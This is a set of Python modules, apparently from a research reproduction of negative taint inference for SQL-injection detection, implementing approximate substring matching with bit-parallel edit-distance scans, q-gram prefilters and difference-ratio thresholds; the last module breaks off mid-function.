    """Both pigeonhole position indexes of ``text``: ``(trigrams, bigrams)``."""
    return build_gram_index(text), build_bigram_index(text)


#: Memo for :func:`pigeonhole_pieces`: the ``(length, budget)`` domain on
#: a live workload is tiny (input lengths times a handful of budgets) and
#: the split is recomputed for every candidate on the hot path.
_PIECES_CACHE: dict[tuple[int, int], list[tuple[int, int]]] = {}
_PIECES_CACHE_MAX = 4096


def pigeonhole_pieces(length: int, budget: int) -> list[tuple[int, int]]:
    """Balanced split of a ``length``-char pattern into ``budget + 1`` pieces.

    Returns ``(offset, piece_length)`` pairs.  Piece lengths differ by at
    most one; every piece is non-empty when ``length > budget``.  Memoised:
    callers must not mutate the returned list.
    """
    key = (length, budget)
    cached = _PIECES_CACHE.get(key)
    if cached is not None:
        return cached
    pieces = budget + 1
    base, extra = divmod(length, pieces)
    out: list[tuple[int, int]] = []
    offset = 0
    for index in range(pieces):
        plen = base + (1 if index < extra else 0)
        out.append((offset, plen))
        offset += plen
    if len(_PIECES_CACHE) >= _PIECES_CACHE_MAX:
        _PIECES_CACHE.clear()
    _PIECES_CACHE[key] = out
    return out


def qgram_applicable(
    length: int, budget: int | None, min_piece: int = QGRAM
) -> bool:
    """Whether the pigeonhole filter applies to a pattern of this length.

    Every piece must be at least ``min_piece`` characters so it can be
    probed against a position index: ``QGRAM`` (the default) when only the
    trigram index is available, :data:`MIN_PIECE` when the caller also
    supplies a bigram index to :func:`qgram_filtered_match`.  ``budget``
    must be known (the filter prunes *against* it) and smaller than the
    pattern (otherwise pieces are empty and everything trivially
    "matches").
    """
    return (
        budget is not None
        and budget >= 0
        and length >= min_piece * (budget + 1)
    )


def _merge_windows(windows: list[tuple[int, int]]) -> list[tuple[int, int]]:
    """Merge overlapping/adjacent ``(start, end)`` windows; sorted, disjoint."""
    windows.sort()
    merged: list[tuple[int, int]] = []
    cur_start, cur_end = windows[0]
    for start, end in windows[1:]:
        if start <= cur_end:
            if end > cur_end:
                cur_end = end
        else:
            merged.append((cur_start, cur_end))
            cur_start, cur_end = start, end
    merged.append((cur_start, cur_end))
    return merged


def qgram_filtered_match(
    pattern: str,
    text: str,
    budget: int,
    grams: dict[str, list[int]] | None = None,
    stats=None,
    bigrams=None,
):
    """Pigeonhole-filtered exact substring match under ``budget`` edits.

    Returns one of:

    - ``None`` -- *proven* no-match: either no piece of ``pattern`` occurs
      exactly in ``text`` (pigeonhole prune, no scan at all) or the
      anchored scans found no column within budget;
    - ``(distance, start, end)`` -- the exact best match, byte-identical
      (tie-breaks included) to what the unfiltered cores would report;
    - :data:`FULL_SCAN` -- the filter declined (seed windows cover most of
      the text, or the tie landscape is degenerate); the caller must run
      the unfiltered core.

    ``grams`` selects the probing tier.  With ``None`` each piece is
    probed whole via C-level ``str.find`` -- no per-query setup, the
    right tier until a query's probe volume can amortise an index build.
    With a trigram position index, pieces probe by leading gram plus
    verbatim extension (``bigrams`` -- a dict or a zero-argument factory
    -- extends index probing to 2-char pieces).  The tiers may anchor
    slightly different window sets, but every window set covers all true
    matches, so any returned tuple is identical either way.

    Precondition: ``qgram_applicable(len(pattern), budget)`` and the usual
    front-end heuristics (exact containment, length/char/bigram bounds)
    have already run -- in particular ``pattern`` does *not* occur
    verbatim in ``text``.
    """
    n = len(pattern)
    m = len(text)
    # -- seed probe: each piece's leading gram, then verbatim extension --
    windows: list[tuple[int, int]] = []
    pieces = pigeonhole_pieces(n, budget)
    if stats is not None:
        stats.seeds_probed += len(pieces)
    startswith = text.startswith
    find = text.find
    append = windows.append
    for offset, plen in pieces:
        if grams is None:
            # Index-free tier: one C-level find() settles a miss; hits
            # are enumerated the same way (and are exact whole-piece
            # occurrences, so no extension step is needed).
            if plen < MIN_PIECE:
                return FULL_SCAN
            piece = pattern[offset : offset + plen]
            hits = []
            pos = find(piece)
            while pos >= 0:
                hits.append(pos)
                pos = find(piece, pos + 1)
        elif plen >= QGRAM:
            positions = grams.get(pattern[offset : offset + QGRAM])
            if not positions:
                hits = []
            elif plen > QGRAM:
                piece = pattern[offset : offset + plen]
                hits = [pos for pos in positions if startswith(piece, pos)]
            else:
                hits = positions
        elif bigrams is not None and plen >= MIN_PIECE:
            # ``bigrams`` may be a zero-argument factory (the profile's
            # lazily-built index): resolved only when a short piece is
            # actually probed.
            if callable(bigrams):
                bigrams = bigrams()
            hits = bigrams.get(pattern[offset : offset + MIN_PIECE]) or []
        else:
            # A piece too short to probe voids the pigeonhole argument;
            # only reachable if the caller skipped qgram_applicable().
            return FULL_SCAN
        if not hits:
            continue
        if stats is not None:
            stats.seed_hits += len(hits)
        # Window around an exact piece occurrence at ``pos``: the match
        # contains the piece, extends at most ``offset + budget`` chars to
        # the left of it and ``(n - offset - plen) + budget`` to the right.
        left = offset + budget
        right = n - offset + budget
        for pos in hits:
            window_start = pos - left
            append(
                (window_start if window_start > 0 else 0,
                 min(m, pos + right))
            )
    if not windows:
        if stats is not None:
            stats.pruned_qgram += 1
        return None
    merged = _merge_windows(windows)
    covered = sum(end - start for start, end in merged)
    if 2 * covered >= m:
        # Windows span most of the text: the anchored scans would cost as
        # much as one full scan plus slicing overhead.  Decline.
        return FULL_SCAN
    if stats is not None:
        stats.anchored_scans += 1
        stats.anchored_window_chars += covered
        stats.anchored_text_chars += m

    # -- anchored verification: windowed Sellers scans ------------------
    peq = build_peq(pattern)
    d_star: int | None = None
    columns: list[int] = []
    for start, end in merged:
        scan = substring_scan(pattern, text[start:end], budget, peq=peq)
        if scan is None:
            continue
        distance, cols = scan
        if d_star is None or distance < d_star:
            d_star = distance
            columns = [start + j for j in cols]
        elif distance == d_star:
            columns.extend(start + j for j in cols)
    if d_star is None:
        return None

    # -- span recovery, mirroring the unfiltered bit-parallel core ------
    if d_star == 0:
        columns = columns[:1]
    window_span = n + d_star + 1
    max_len = n + d_star
    if len(columns) > 1 and len(columns) * min(window_span, m) > 32 * m:
        # Degenerate tie landscape: recovering every candidate start
        # would cost more than the plain DP.  Decline to the oracle.
        return FULL_SCAN
    best_start = best_end = -1
    best_len = -1
    for j in columns:
        start_j = recover_start(pattern, text, j, d_star, peq=peq)
        length = j - start_j
        if length > best_len:
            best_len = length
            best_start, best_end = start_j, j
            if best_len >= max_len:
                break  # no later candidate can be strictly longer
    return d_star, best_start, best_end


# ----------------------------------------------------------------------
# Vertical packing: many small candidates, one big-int scan
# ----------------------------------------------------------------------

#: Lanes per packed word.  Bounds the big-int width (lanes * lane width
#: bits) so individual word operations stay cheap; candidate sets larger
#: than this are scanned in chunks.
PACKED_MAX_LANES = 64


def packed_survivors(
    patterns: list[str],
    budgets: list[int],
    text: str,
    stats=None,
) -> list[bool]:
    """Which of several small patterns *might* match ``text`` within budget.

    Runs the Sellers substring scan for every pattern simultaneously: one
    lane per pattern inside shared big-int state vectors, one column
    update per text character for all lanes together.  Returns a boolean
    per pattern: ``False`` means the pattern's exact last-row score never
    reached its budget anywhere in the text -- a *proof* of no match
    (each lane replays the single-pattern recurrence exactly; the guard
    bit blocks inter-lane carries and the per-lane masks pin Sellers'
    free-start semantics).  ``True`` means a match is possible and the
    caller must run the exact matcher on that pattern.

    Preconditions: every pattern is non-empty, at most
    :data:`PACKED_MAX_PATTERN` characters, and its budget is
    ``< len(pattern)`` (candidates with ``budget >= len(pattern)`` match
    trivially and should not be routed here).
    """
    count = len(patterns)
    if count == 0:
        return []
    if count > PACKED_MAX_LANES:
        out: list[bool] = []
        for base in range(0, count, PACKED_MAX_LANES):
            out.extend(
                packed_survivors(
                    patterns[base : base + PACKED_MAX_LANES],
                    budgets[base : base + PACKED_MAX_LANES],
                    text,
                    stats,
                )
            )
        return out

    max_m = max(len(p) for p in patterns)
    # Lane layout (uniform width W): pattern cells top-aligned at
    # [W-1-m, W-2], guard bit at W-1, dead padding below.  Top alignment
    # puts every lane's last-row indicator bit at the same offset W-2, so
    # one shared shift aligns all score deltas.  W >= 6 keeps room for the
    # SWAR score lanes (4 value bits + threshold indicator bit 5).
    lane_width = max(max_m + 2, 6)
    high_offset = lane_width - 2

    cell_mask = 0       # all pattern-cell bits
    row1_mask = 0       # pattern-cell bits minus each lane's row 0
    high_mask = 0       # each lane's last-row bit (offset W-2)
    top_vec = 0         # score-lane threshold indicator bits (offset 5)
    budget_vec = 0      # per-lane budgets in the score-lane layout
    score_vec = 0       # per-lane running last-row scores
    peq: dict[str, int] = {}
    vp = 0
    for index, (pattern, budget) in enumerate(zip(patterns, budgets)):
        base = index * lane_width
        m = len(pattern)
        cell_base = base + lane_width - 1 - m
        lane_cells = ((1 << m) - 1) << cell_base
        cell_mask |= lane_cells
        row1_mask |= lane_cells & ~(1 << cell_base)
        high_mask |= 1 << (base + high_offset)
        top_vec |= 1 << (base + 5)
        budget_vec |= budget << base
        score_vec |= m << base
        vp |= lane_cells
        bit = 1 << cell_base
        for ch in pattern:
            peq[ch] = peq.get(ch, 0) | bit
            bit <<= 1
    full_mask = (1 << (count * lane_width)) - 1
    vn = 0
    survivors = 0
    threshold_base = budget_vec + top_vec
    get = peq.get

    if stats is not None:
        stats.packed_scans += 1
        stats.packed_lanes += count

    for ch in text:
        eq = get(ch, 0)
        x0 = eq & vp
        d0 = ((x0 + vp) ^ vp) | eq | vn
        hp = (vn | ~(d0 | vp)) & full_mask
        hn = vp & d0
        # Packed score update: every lane's last-row delta arrives at the
        # shared high offset; one shift aligns them all with the score
        # lanes.  Values stay in [0, m] per lane, so no cross-lane carry.
        score_vec += ((hp & high_mask) >> high_offset) - (
            (hn & high_mask) >> high_offset
        )
        # SWAR threshold test: per lane, budget + 32 - score has bit 5 set
        # iff score <= budget.  All lane values stay in [24, 40]: no
        # borrow or carry crosses a lane.
        survivors |= (threshold_base - score_vec) & top_vec
        if survivors == top_vec:
            break  # every lane already within budget somewhere
        # Sellers semantics per lane: the shifted horizontal deltas enter
        # row 1 and above only (row 0 stays pinned at zero), and the
        # guard/padding bits of the vertical deltas are cleared so the
        # next column's carry chain stays inside its lane.
        x = (hp << 1) & row1_mask
        vp = ((hn << 1) | ~(d0 | x)) & cell_mask
        vn = x & d0 & cell_mask

    out = []
    for index in range(count):
        alive = bool(survivors & (1 << (index * lane_width + 5)))
        if stats is not None and not alive:
            stats.pruned_packed += 1
        out.append(alive)
    return out
