"""Difference-ratio computation for negative taint inference.

Paper Section III-A: *"Function substring_distance computes a difference
ratio which is the string distance between an input and a query divided by
the length of the matched query substring."*  A ratio of zero means the input
appears verbatim in the query; a ratio below the configured threshold counts
as a match and the matched region is marked negatively tainted.

The worked example in Figure 2C: a 17-character payload picks up five
backslashes from magic quotes, the matched query region is 22 characters, so
the ratio is ``5 / 22 = 22.7%`` -- above the 20% default threshold, and NTI
misses the attack.  :func:`difference_ratio` reproduces exactly that
arithmetic.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from .filter import edit_budget
from .substring import SubstringMatch, TextProfile, best_substring_match

__all__ = ["DEFAULT_NTI_THRESHOLD", "RatioMatch", "difference_ratio", "match_with_ratio"]

#: Default NTI sensitivity threshold.  Figure 2C's narrative uses 20%.
DEFAULT_NTI_THRESHOLD = 0.20


@dataclass(frozen=True)
class RatioMatch:
    """A substring match annotated with its difference ratio."""

    match: SubstringMatch
    ratio: float

    @property
    def start(self) -> int:
        return self.match.start

    @property
    def end(self) -> int:
        return self.match.end

    @property
    def distance(self) -> int:
        return self.match.distance


def difference_ratio(match: SubstringMatch) -> float:
    """Ratio of edit distance to matched-substring length.

    A zero-length match (possible only for an empty or fully-deleted input)
    is defined to have an infinite ratio so it can never satisfy a threshold;
    empty inputs carry no taint.
    """
    if match.length == 0:
        return float("inf")
    return match.distance / match.length


def match_with_ratio(
    pattern: str,
    text: str,
    threshold: float = DEFAULT_NTI_THRESHOLD,
    *,
    matcher: str = "auto",
    profile: "TextProfile | Callable[[], TextProfile] | None" = None,
    prefilter: bool = False,
    bounds: bool = True,
    stats=None,
) -> RatioMatch | None:
    """Locate ``pattern`` in ``text`` and accept it if the ratio clears ``threshold``.

    The distance budget handed to the matcher is derived from the threshold:
    a match of length ``L`` passes only if ``distance <= threshold * L``, and
    ``L`` can be at most ``len(pattern) + distance``, so any passing distance
    satisfies ``d <= threshold * (len(pattern) + d)``, bounding
    ``d <= threshold * len(pattern) / (1 - threshold)``.  This keeps the
    banded pruning heuristics sound while never rejecting a passing match.

    ``matcher`` selects the matching core (see
    :func:`repro.matching.substring.best_substring_match`); ``profile`` is
    an optional precomputed :class:`TextProfile` of ``text`` -- or a lazy
    zero-argument factory for one -- so NTI can amortise the pruning tables
    across every input of a request without building them for inputs that
    short-circuit on exact containment.  ``prefilter``/``stats`` enable the
    q-gram pigeonhole prefilter and its counters, and ``bounds=False``
    skips the char/bigram bound heuristics (see
    :func:`repro.matching.substring.best_substring_match`); results are
    byte-identical whichever pruning layers run.

    Returns ``None`` when no substring of ``text`` matches ``pattern``
    closely enough.
    """
    if not 0.0 <= threshold < 1.0:
        raise ValueError("threshold must be in [0, 1)")
    if not pattern:
        return None
    budget = edit_budget(len(pattern), threshold)
    match = best_substring_match(
        pattern,
        text,
        max_distance=budget,
        matcher=matcher,
        profile=profile,
        prefilter=prefilter,
        bounds=bounds,
        stats=stats,
    )
    if match is None:
        return None
    ratio = difference_ratio(match)
    if ratio > threshold:
        return None
    return RatioMatch(match=match, ratio=ratio)
