"""Myers' bit-parallel edit-distance primitives (Myers 1999, Hyyrö 2003).

The DP matchers in :mod:`repro.matching.levenshtein` and
:mod:`repro.matching.substring` spend ``O(n * m)`` Python-level operations
per comparison -- the NTI hot path of the whole system.  Myers' algorithm
packs one DP *column* of the Sellers/Levenshtein matrix into bit-vectors of
vertical deltas and advances a full column per text character with a dozen
word operations, i.e. ``O(ceil(n / w) * m)`` word ops.  CPython's
arbitrary-precision integers act as a single *wide word* (``w = n``): the
block decomposition of the classical presentation collapses into plain
``int`` arithmetic, and a pattern longer than 64 characters simply becomes a
multi-limb int whose limb loop runs in C instead of Python.  That converts
the interpreter-bound ``n * m`` inner loop into ``~10 * m`` big-int
operations -- one to two orders of magnitude faster for the long benign
inputs that dominate NTI latency.

Two scan variants are provided, sharing the Hyyrö formulation of the column
update:

- :func:`levenshtein_bitparallel` -- *global* distance.  The first DP row
  increases (``D[0][j] = j``), realised by carrying ``1`` into the shifted
  positive horizontal delta, with a Ukkonen-style budget early-exit: the
  running score can drop by at most one per remaining column, so once
  ``score - remaining > max_distance`` the call is settled.
- :func:`substring_scan` -- *Sellers* semantics (first row pinned to zero, a
  match may begin anywhere for free).  Yields the minimum last-row value and
  every text column achieving it, which
  :func:`repro.matching.substring.best_substring_match` turns into exact
  ``SubstringMatch(start, end)`` spans via a bounded-window start-recovery
  DP.  The same monotonicity argument (adjacent last-row columns differ by
  at most one) powers its budget early-exit.

Bit-vector invariants (width ``n`` = pattern length): ``VP``/``VN`` hold the
positive/negative vertical deltas of the current column, ``D0`` the diagonal
zero-deltas, ``HP``/``HN`` the horizontal deltas; ``score`` tracks the last
row.  Everything is masked to ``n`` bits, emulating a machine word exactly
as wide as the pattern.
"""

from __future__ import annotations

__all__ = [
    "build_peq",
    "levenshtein_bitparallel",
    "substring_scan",
    "recover_start",
]

try:  # pragma: no cover - version probe
    _bit_count = int.bit_count  # Python >= 3.10: popcount in C
except AttributeError:  # pragma: no cover - 3.9 fallback
    def _bit_count(x: int) -> int:
        return bin(x).count("1")


def build_peq(pattern: str) -> dict[str, int]:
    """Per-character match bit-masks for ``pattern``.

    ``peq[c]`` has bit ``i`` set iff ``pattern[i] == c``.  This is the only
    per-pattern precomputation Myers' scan needs; callers matching one
    pattern against many texts may build it once and pass it to
    :func:`levenshtein_bitparallel` / :func:`substring_scan`.
    """
    peq: dict[str, int] = {}
    bit = 1
    for ch in pattern:
        peq[ch] = peq.get(ch, 0) | bit
        bit <<= 1
    return peq


def levenshtein_bitparallel(
    a: str,
    b: str,
    max_distance: int | None = None,
    *,
    peq: dict[str, int] | None = None,
) -> int:
    """Global Levenshtein distance via Myers' bit-parallel column scan.

    Exact drop-in for :func:`repro.matching.levenshtein.levenshtein_two_row`
    (and, with ``max_distance``, for the banded variant's contract: the
    exact distance when it is ``<= max_distance``, ``max_distance + 1``
    otherwise).  ``peq`` may be supplied when ``a`` is matched repeatedly;
    it must then be ``build_peq(a)`` for the *shorter* operand order is not
    applied (callers passing ``peq`` take responsibility for orientation).
    """
    if max_distance is not None and max_distance < 0:
        raise ValueError("max_distance must be non-negative")
    if peq is None and len(a) > len(b):
        # The pattern (bit-vector) should be the shorter operand: narrower
        # words and fewer per-bit carries.  Distance is symmetric.
        a, b = b, a
    m = len(a)
    n = len(b)
    if m == 0:
        if max_distance is not None and n > max_distance:
            return max_distance + 1
        return n
    if max_distance is not None and n - m > max_distance:
        return max_distance + 1
    if peq is None:
        peq = build_peq(a)
    mask = (1 << m) - 1
    high = 1 << (m - 1)
    vp = mask
    vn = 0
    score = m
    get = peq.get
    remaining = n
    for ch in b:
        remaining -= 1
        eq = get(ch, 0)
        d0 = ((((eq & vp) + vp) ^ vp) | eq | vn) & mask
        hp = (vn | ~(d0 | vp)) & mask
        hn = vp & d0
        if hp & high:
            score += 1
        elif hn & high:
            score -= 1
        # Global distance: the first row increases by one per column, so a
        # positive delta is carried into bit 0 of the shifted HP.
        x = (hp << 1) | 1
        vp = ((hn << 1) | ~(d0 | x)) & mask
        vn = x & d0
        if max_distance is not None and score - remaining > max_distance:
            # Ukkonen early-exit: the score drops by at most 1 per
            # remaining column, so the budget is already unreachable.
            return max_distance + 1
    if max_distance is not None and score > max_distance:
        return max_distance + 1
    return score


def substring_scan(
    pattern: str,
    text: str,
    max_distance: int | None = None,
    *,
    peq: dict[str, int] | None = None,
) -> tuple[int, list[int]] | None:
    """Sellers-style substring-distance scan (first DP row pinned to zero).

    Computes, for every column ``j`` of the text, the minimum edit distance
    between ``pattern`` and any substring of ``text`` *ending* at ``j``
    (the last row of the Sellers DP), and returns ``(d_star, columns)``:
    the overall minimum and the ascending list of end columns achieving it.
    Column indices are 1-based ends, i.e. ``text[:j]`` suffixes -- exactly
    the ``end`` offsets of :class:`~repro.matching.substring.SubstringMatch`.

    Returns ``None`` when ``max_distance`` is given and no substring of
    ``text`` is within the budget (including via the early-exit: adjacent
    last-row values differ by at most one, so once the current score cannot
    descend below the budget before the text ends -- and no prior column
    did -- the scan is settled).

    Start offsets are *not* produced here; recovering them exactly
    (including the DP's tie-breaks) is the caller's bounded-window pass.
    """
    if max_distance is not None and max_distance < 0:
        raise ValueError("max_distance must be non-negative")
    m = len(pattern)
    n = len(text)
    if m == 0:
        # Empty pattern matches anywhere with distance 0 at column 0.
        return 0, [0]
    if peq is None:
        peq = build_peq(pattern)
    mask = (1 << m) - 1
    high = 1 << (m - 1)
    vp = mask
    vn = 0
    score = m
    best = m  # column 0: pattern vs empty substring
    columns: list[int] = []
    get = peq.get
    j = 0
    for ch in text:
        j += 1
        eq = get(ch, 0)
        d0 = ((((eq & vp) + vp) ^ vp) | eq | vn) & mask
        hp = (vn | ~(d0 | vp)) & mask
        hn = vp & d0
        if hp & high:
            score += 1
        elif hn & high:
            score -= 1
        # Sellers semantics: the first row stays 0 (free match start), so
        # no carry enters bit 0 of the shifted HP.
        x = hp << 1
        vp = ((hn << 1) | ~(d0 | x)) & mask
        vn = x & d0
        if score < best:
            best = score
            columns = [j]
        elif score == best:
            columns.append(j)
        elif (
            max_distance is not None
            and best > max_distance
            and score - (n - j) > max_distance
        ):
            # No earlier column made the budget and the score cannot fall
            # below it in the remaining columns: provably no match.
            return None
    if max_distance is not None and best > max_distance:
        return None
    return best, columns


def recover_start(
    pattern: str,
    text: str,
    end: int,
    distance: int,
    *,
    peq: dict[str, int] | None = None,
) -> int:
    """Exact start offset of the Sellers DP's span ending at column ``end``.

    Reproduces -- tie-breaks included -- the ``starts[n]`` value the
    start-tracking DP of :mod:`repro.matching.substring` would report at
    column ``end`` given that the substring distance there is ``distance``,
    at bit-parallel speed:

    1. **Bounded window.**  Any DP path reaching ``(n, end)`` with cost
       ``distance`` consumes at most ``n + distance`` text characters, so
       its start lies in ``[end - n - distance, end]``.  Re-running the
       Sellers scan from a fresh column at ``w0 = end - (n + distance + 1)``
       reproduces every *on-path* cell value exactly (the path never leaves
       the window, and windowed values can only over-approximate) while
       cells the forward DP rejected may only be inflated -- which, by the
       argmin preference order, can never flip a decision in their favour.
    2. **Delta recording.**  The windowed scan stores each column's
       vertical-delta bit-vectors; any cell ``D[i][j]`` is then
       ``popcount(VP_j & mask_i) - popcount(VN_j & mask_i)`` -- an ``O(n /
       w)`` lookup instead of an ``O(n)`` DP row.
    3. **Argmin walk-back.**  From ``(n, end)`` the forward DP's decision
       (substitution preferred over deletion over insertion, exactly as in
       the start-tracking DP) is replayed backwards until row 0; the column
       reached is the propagated start.

    Total cost is ``O((n + distance) * ceil(n / w))`` word operations --
    the same order as the scan itself, which is what keeps the bit-parallel
    matcher fast even when it must report spans.
    """
    n = len(pattern)
    if n == 0:
        return end
    if peq is None:
        peq = build_peq(pattern)
    mask = (1 << n) - 1
    w0 = max(0, end - (n + distance + 1))
    vp = mask
    vn = 0
    vps = [vp]
    vns = [vn]
    get = peq.get
    for ch in text[w0:end]:
        eq = get(ch, 0)
        d0 = ((((eq & vp) + vp) ^ vp) | eq | vn) & mask
        hp = (vn | ~(d0 | vp)) & mask
        hn = vp & d0
        x = hp << 1
        vp = ((hn << 1) | ~(d0 | x)) & mask
        vn = x & d0
        vps.append(vp)
        vns.append(vn)

    def cell(i: int, col: int) -> int:
        """Value of DP cell ``(i, col)``; ``col`` is an absolute offset."""
        if i <= 0:
            return 0
        ci = col - w0
        m_i = (1 << i) - 1
        return _bit_count(vps[ci] & m_i) - _bit_count(vns[ci] & m_i)

    i = n
    j = end
    while i > 0 and j > w0:
        cost = 0 if pattern[i - 1] == text[j - 1] else 1
        sub_d = cell(i - 1, j - 1) + cost
        del_d = cell(i, j - 1) + 1
        ins_d = cell(i - 1, j) + 1
        if sub_d <= del_d and sub_d <= ins_d:
            i -= 1
            j -= 1
        elif del_d <= ins_d:
            j -= 1
        else:
            i -= 1
    # Row 0 reached: ``j`` is the propagated start.  Hitting the window's
    # left edge above row 0 (defensively unreachable: the path cannot span
    # more than ``n + distance`` columns) corresponds to the windowed DP's
    # initial column, whose tracked start is ``w0`` itself.
    return j if i == 0 else w0
