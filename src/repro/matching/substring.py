"""Approximate substring matching for negative taint inference.

The NTI algorithm (paper Section III-A) needs, for each application input
``p`` and intercepted query ``q``, the *substring distance*: the minimum edit
distance between ``p`` and any substring of ``q``, together with the location
and length of the best-matching substring.  The naive formulation compares
every substring of ``q`` against ``p`` with Levenshtein, costing
``O(n^2 * m^2)``; the paper notes this is impractical and that optimized
dynamic programming plus heuristics to skip implausible comparisons are used
instead (Sections III-A and VI-B).

Two interchangeable matching cores sit behind :func:`best_substring_match`:

- ``dp`` -- Sellers' algorithm: the standard edit-distance DP in which the
  first row is initialised to zero, so a match may *begin* at any position
  of the text for free, and the minimum over the final row allows it to
  *end* anywhere.  ``O(n * m)`` time, ``O(n)`` memory; start positions are
  recovered with a parallel start-tracking row, avoiding a quadratic
  traceback.  Retained as the differential-testing oracle.
- ``bitparallel`` -- Myers' bit-parallel scan
  (:mod:`repro.matching.bitparallel`) computing the same last-row values in
  ``O(ceil(n / w) * m)`` word operations, then recovering the exact
  ``(start, end)`` span -- including the DP's tie-breaks -- by re-running
  the start-tracking DP over a bounded window ``O(n)`` wide around each
  candidate end column.  The default on the NTI hot path (``matcher="auto"``
  picks it for all but tiny patterns, where the plain DP's lower constant
  wins).

Both cores return byte-identical :class:`SubstringMatch` results; the
property-based suite enforces the equivalence.

Heuristics applied before either core (the "skip implausible comparisons"
of the paper):

- an input longer than the query plus the distance budget cannot match;
- an exact ``str.find`` hit short-circuits to distance zero;
- a character-frequency lower bound prunes inputs that share too few
  characters with the query to possibly fall under the budget;
- a q-gram (bigram) lower bound catches the rest of the implausible pairs.

The frequency/bigram tables of the last two heuristics depend only on the
*text*; :class:`TextProfile` precomputes them once so NTI can reuse them
across every candidate input of a request (and cache them across requests).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from .bitparallel import build_peq, recover_start, substring_scan
from .filter import (
    FULL_SCAN,
    MIN_PIECE,
    PROBE_INDEX_BUILD,
    build_bigram_index,
    build_gram_index,
    qgram_applicable,
    qgram_filtered_match,
)

__all__ = [
    "MATCHER_CHOICES",
    "AUTO_BITPARALLEL_MIN_PATTERN",
    "SubstringMatch",
    "TextProfile",
    "best_substring_match",
    "resolve_matcher",
    "substring_distance",
]

#: Accepted values for the ``matcher`` selector (also mirrored by
#: :class:`repro.nti.inference.NTIConfig`).
MATCHER_CHOICES = ("auto", "dp", "bitparallel")

#: ``matcher="auto"`` uses the plain DP below this pattern length: for a
#: handful of pattern characters the DP's inner loop is shorter than the
#: fixed ~10 big-int operations Myers' scan spends per text column.
AUTO_BITPARALLEL_MIN_PATTERN = 8


@dataclass(frozen=True)
class SubstringMatch:
    """Best approximate occurrence of a pattern inside a text.

    Attributes:
        distance: minimum edit distance between the pattern and ``text[start:end]``.
        start: start offset of the matched substring in the text.
        end: end offset (exclusive) of the matched substring in the text.
    """

    distance: int
    start: int
    end: int

    @property
    def length(self) -> int:
        """Length of the matched query substring (denominator of the paper's ratio)."""
        return self.end - self.start


class TextProfile:
    """Per-text pruning tables for the pre-DP heuristics.

    Building the character-frequency and bigram multisets costs ``O(m)``
    over the text; NTI matches *every* candidate input of a request against
    the *same* intercepted query, so the tables are computed once per query
    (and cached across requests by the engine) instead of once per
    ``(input, query)`` pair.
    """

    __slots__ = ("text", "_chars", "_bigrams", "_tri", "_bi", "_probes")

    def __init__(self, text: str) -> None:
        self.text = text
        chars: dict[str, int] = {}
        for ch in text:
            chars[ch] = chars.get(ch, 0) + 1
        self._chars = chars
        bigrams: dict[str, int] = {}
        for i in range(len(text) - 1):
            gram = text[i : i + 2]
            bigrams[gram] = bigrams.get(gram, 0) + 1
        self._bigrams = bigrams
        self._tri = None
        self._bi = None
        self._probes = 0

    @classmethod
    def from_tables(
        cls, text: str, chars: dict[str, int], bigrams: dict[str, int]
    ) -> "TextProfile":
        """Wrap precomputed multiset tables without rescanning ``text``.

        Callers must supply the *exact* character and bigram multisets of
        ``text`` -- the shape fast path assembles them incrementally from
        per-shape segment tables plus the current literal slots, which is
        ``O(slot text)`` instead of ``O(query)``.
        """
        profile = cls.__new__(cls)
        profile.text = text
        profile._chars = chars
        profile._bigrams = bigrams
        profile._tri = None
        profile._bi = None
        profile._probes = 0
        return profile

    def gram_index(self) -> dict[str, list[int]]:
        """Lazily-built 3-gram position index for the q-gram prefilter.

        ``O(m)`` on first use, then shared across every candidate input of
        the query -- and, because the profile itself is cached across
        requests, across repeated queries too.  Built lazily so workloads
        running with the prefilter off (or resolved away) never pay for it;
        works identically for :meth:`from_tables` profiles since the full
        text is always stored.
        """
        grams = self._tri
        if grams is None:
            grams = self._tri = build_gram_index(self.text)
        return grams

    def bigram_index(self) -> dict[str, list[int]]:
        """Lazily-built bigram position index (2-character pigeonhole pieces).

        Built independently of :meth:`gram_index`: at the default NTI
        threshold every probe-able pattern splits into 3+ character pieces,
        so most workloads never pay for this one.
        """
        grams = self._bi
        if grams is None:
            grams = self._bi = build_bigram_index(self.text)
        return grams

    def seed_index(self) -> dict[str, list[int]] | None:
        """Adaptive trigram index: ``None`` until probe volume amortises it.

        Each call counts one pigeonhole probe against this profile.  While
        the count is below
        :data:`~repro.matching.filter.PROBE_INDEX_BUILD` the caller should
        probe pieces with C-level ``str.find`` (an index build would cost
        more than it saves); past the threshold -- a high fan-in request,
        or a cached profile accumulating probes across requests -- the
        index is built once and every later probe shares it.
        """
        grams = self._tri
        if grams is not None:
            return grams
        probes = self._probes + 1
        self._probes = probes
        if probes >= PROBE_INDEX_BUILD:
            return self.gram_index()
        return None

    def char_bound(self, pattern: str) -> int:
        """Lower bound on the substring distance from character multiplicities.

        Every pattern character missing from the text (counting
        multiplicity) requires at least one edit.  ``O(n)`` given the
        precomputed table.
        """
        needed: dict[str, int] = {}
        for ch in pattern:
            needed[ch] = needed.get(ch, 0) + 1
        available = self._chars
        missing = 0
        for ch, count in needed.items():
            have = available.get(ch, 0)
            if count > have:
                missing += count - have
        return missing

    def bigram_bound(self, pattern: str) -> int:
        """q-gram lower bound (q=2) on the substring distance.

        By the q-gram lemma, one edit destroys at most ``q`` of the
        pattern's q-grams, so ``distance >= missing_bigrams / 2`` where
        missing counts the multiset of pattern bigrams absent from the
        text.  The text's bigram multiset over-approximates every
        substring's, keeping the bound valid for substring matching.  This
        is the decisive pruning pass for NTI: a benign comment body shares
        almost no bigrams with an UPDATE statement, so the matching core is
        skipped entirely.
        """
        if len(pattern) < 2:
            return 0
        needed: dict[str, int] = {}
        for i in range(len(pattern) - 1):
            gram = pattern[i : i + 2]
            needed[gram] = needed.get(gram, 0) + 1
        available = self._bigrams
        missing = 0
        for gram, count in needed.items():
            have = available.get(gram, 0)
            if count > have:
                missing += count - have
        return missing // 2


def _char_budget_bound(pattern: str, text: str) -> int:
    """Ad-hoc character-frequency bound (builds a throwaway profile)."""
    return TextProfile(text).char_bound(pattern)


def _bigram_bound(pattern: str, text: str) -> int:
    """Ad-hoc bigram bound (builds a throwaway profile)."""
    return TextProfile(text).bigram_bound(pattern)


def resolve_matcher(matcher: str, pattern_length: int) -> str:
    """Resolve a matcher selector to a concrete core (``dp``/``bitparallel``)."""
    if matcher == "auto":
        return (
            "bitparallel"
            if pattern_length >= AUTO_BITPARALLEL_MIN_PATTERN
            else "dp"
        )
    if matcher not in MATCHER_CHOICES:
        raise ValueError(
